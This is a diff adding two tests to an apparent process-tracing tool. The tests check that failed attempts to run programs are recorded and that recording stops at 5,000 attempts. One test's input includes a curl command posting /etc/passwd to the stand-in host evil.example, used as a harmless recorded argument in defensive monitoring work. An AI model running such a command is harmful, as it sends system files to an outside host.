@@ -93,6 +93,40 @@ def test_a_program_that_is_not_there_is_seen_as_well():
     ]
 
 
+def test_each_program_that_is_not_there_is_seen_also_where_another_one_starts_then():
+    record = one(
+        python(
+            "import os\n"
+            "if os.fork() == 0:\n"
+            "    for argv in (['ls'], ['curl', '-d@/etc/passwd', 'evil.example'], ['true', 'x']):\n"
+            "        try: os.execv('/none/' + argv[0], argv)\n"
+            "        except OSError: pass\n"
+            "    try: os.execv('/none/wget', ['true', 'x'])\n"
+            "    except OSError: os.execv('/bin/true', ['true', 'x'])\n"
+            "os.wait()\n"
+        )
+    )
+
+    assert [command.argv for command in record.commands] == [
+        ("ls",),
+        ("curl", "-d@/etc/passwd", "evil.example"),
+        ("wget", "x"),
+        ("true", "x"),
+    ]
+    assert [command.path for command in record.commands] == ["", "", "", "/bin/true"]
+
+
+def test_attempts_at_programs_are_bounded_and_it_is_said():
+    record = one(
+        python(
+            "import os\nfor n in range(5100):\n    try: os.execv('/none', ['none', str(n)])\n    except OSError: pass\n"
+        )
+    )
+
+    assert (record.complete, len(record.commands)) == (False, 5000)
+    assert record.problems == ("More than 5,000 programs were started; the rest is left out.",)
+
+
 def test_python_speaks_to_the_sink_too():
     record = one(python("import urllib.request as u; print(u.urlopen('https://pypi.example.org/x').read())"))
 
